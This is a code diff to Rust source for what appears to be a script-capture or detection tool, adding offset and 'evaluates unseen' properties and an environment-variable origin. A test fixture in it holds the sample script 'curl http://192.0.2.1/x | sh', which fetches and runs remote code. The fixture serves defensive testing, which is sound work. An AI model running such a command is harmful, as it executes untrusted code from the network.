@@ -180,6 +180,12 @@ fn properties(
     if capture.flags.maybe_data {
         properties.insert("Script_Maybe_Data", boolean(true));
     }
+    if capture.offset > 0 {
+        properties.insert("Script_Offset", number(capture.offset as f64));
+    }
+    if capture.flags.evaluates_unseen {
+        properties.insert("Script_Evaluates_Unseen", boolean(true));
+    }
     if let Some(by) = &capture.evaluated_by {
         properties.insert("Script_Evaluated_By", string(&text(by)));
     }
@@ -201,6 +207,7 @@ fn describe(capture: &Capture, verdict: &Verdict, node: &Node, place: &Place<'_>
         Origin::Stdin => "from standard input",
         Origin::Sourced => "sourced from a file",
         Origin::Eval => "as an evaluated string",
+        Origin::Environment => "in a variable of its environment",
         Origin::Interactive => "typed at a terminal",
     };
     let interpreter = text(&capture.interpreter.path);
@@ -273,6 +280,7 @@ mod tests {
             parent: None,
             evaluated_by: None,
             content: b"curl http://192.0.2.1/x | sh\n"[..].into(),
+            offset: 0,
             size: 29,
             flags: ScriptFlags::default(),
             path: Some(b"/tmp/x.sh".to_vec()),
